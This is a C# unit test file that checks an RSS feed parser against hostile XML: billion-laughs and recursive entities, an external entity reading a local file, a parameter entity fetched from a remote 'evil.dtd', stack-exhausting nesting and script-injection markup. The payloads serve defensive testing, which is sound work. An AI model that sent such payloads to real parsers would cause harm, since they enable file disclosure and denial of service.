using System.Diagnostics;
using System.Text;
using Alerts.Core.Feeds;
using Alerts.Core.Feeds.Parsing;
using static Alerts.Core.Tests.Feeds.FeedParsing;

namespace Alerts.Core.Tests.Feeds;

public class HostileFeedTests
{
    private static string BillionLaughs()
    {
        var dtd = new StringBuilder("<!ENTITY a0 \"ha\">");
        for (var level = 1; level <= 9; level++)
        {
            dtd.Append($"<!ENTITY a{level} \"{string.Concat(Enumerable.Repeat($"&a{level - 1};", 10))}\">");
        }

        return $"<?xml version=\"1.0\"?><!DOCTYPE rss [{dtd}]><rss version=\"2.0\"><channel><title>&a9;</title></channel></rss>";
    }

    [Fact]
    public void Refuses_billion_laughs_quickly_with_an_explanation()
    {
        var clock = Stopwatch.StartNew();
        var before = GC.GetAllocatedBytesForCurrentThread();

        var error = Assert.Throws<FeedFormatException>(() => Parse(BillionLaughs()));

        Assert.Contains("entity expansion", error.Message, StringComparison.Ordinal);
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(2), $"took {clock.Elapsed}");
        Assert.True(GC.GetAllocatedBytesForCurrentThread() - before < 10_000_000, "allocated more than 10 MB");
    }

    [Fact]
    public void Refuses_recursive_entity_declarations()
    {
        var document = """<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]><rss><channel><title>&a;</title></channel></rss>""";

        Assert.Throws<FeedFormatException>(() => Parse(document));
    }

    [Fact]
    public void Never_resolves_an_external_entity()
    {
        var secret = Path.GetTempFileName();
        try
        {
            File.WriteAllText(secret, "TOP-SECRET");
            var document = $"""<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{new Uri(secret).AbsoluteUri}">]><rss><channel><title>x&xxe;y</title></channel></rss>""";

            var title = Parse(document).Title;

            Assert.DoesNotContain("TOP-SECRET", title, StringComparison.Ordinal);
            Assert.Equal("x&xxe;y", title);
        }
        finally
        {
            File.Delete(secret);
        }
    }

    [Fact]
    public void Never_fetches_an_external_parameter_entity()
    {
        var document = """<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://198.51.100.7/evil.dtd">%remote;]><rss><channel><title>safe</title></channel></rss>""";

        Assert.Equal("safe", Parse(document).Title);
    }

    [Fact]
    public void Substitutes_plain_text_entities_declared_in_the_doctype()
    {
        var document = """<!DOCTYPE rss [<!ENTITY firm "Acme &#38; Co">]><rss><channel><title>&firm; rises</title></channel></rss>""";
        var plain = """<!DOCTYPE rss [<!ENTITY firm "Acme Co">]><rss><channel><title>&firm; rises</title></channel></rss>""";

        Assert.Equal("Acme Co rises", Parse(plain).Title);
        Assert.Equal("&firm; rises", Parse(document).Title); // not plain text: left unexpanded rather than expanded
    }

    [Fact]
    public void Refuses_a_document_over_the_size_limit_without_reading_it_all()
    {
        var options = new FeedParserOptions { MaxDocumentBytes = 64 * 1024 };
        var document = Rss(string.Concat(Enumerable.Repeat("<item><title>padding padding padding</title></item>", 5000)));

        var error = Assert.Throws<FeedFormatException>(() => Parse(document, options: options));

        Assert.Contains("65536 bytes", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Accepts_a_document_under_the_size_limit()
    {
        var options = new FeedParserOptions { MaxDocumentBytes = 64 * 1024 };

        Assert.Equal(100, Parse(Rss(string.Concat(Enumerable.Repeat("<item><title>t</title></item>", 100))), options: options).Entries.Count);
    }

    [Fact]
    public void Refuses_a_document_that_exceeds_the_time_budget()
    {
        var options = new FeedParserOptions { Timeout = TimeSpan.Zero };
        var document = Rss(string.Concat(Enumerable.Repeat("<item><title>t</title></item>", 20_000)));

        var error = Assert.Throws<FeedFormatException>(() => Parse(document, options: options));

        Assert.Contains("longer than", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Refuses_nesting_built_to_exhaust_the_stack()
    {
        var document = "<rss><channel>" + string.Concat(Enumerable.Repeat("<x>", 100_000)) + "</channel></rss>";

        var error = Assert.Throws<FeedFormatException>(() => Parse(document));

        Assert.Contains("nested deeper", error.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<a title=\"")]
    [InlineData("</x")]
    [InlineData("<!--")]
    [InlineData("&#x")]
    [InlineData("<![CDATA[")]
    public void Parses_pathological_repetition_in_linear_time(string unit)
    {
        var document = "<rss><channel><title>t</title><item><description>" + string.Concat(Enumerable.Repeat(unit, 200_000)) + "</description></item></channel></rss>";
        var clock = Stopwatch.StartNew();

        try
        {
            Parse(document);
        }
        catch (FeedFormatException)
        {
            // refusing is fine; hanging is not
        }

        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(5), $"took {clock.Elapsed}");
    }

    [Fact]
    public void Strips_executable_markup_from_html_fields()
    {
        var entry = SingleEntry(Rss("""
            <item><description><![CDATA[safe<script>alert(1)</script> <img src="x.png" onerror="alert(2)"/><!-- hidden --><a href="javascript:alert(3)">x</a>]]></description></item>
            """));

        Assert.DoesNotContain("alert", entry.Summary, StringComparison.Ordinal);
        Assert.Contains("<img src=\"x.png\"", entry.Summary, StringComparison.Ordinal);
    }
}
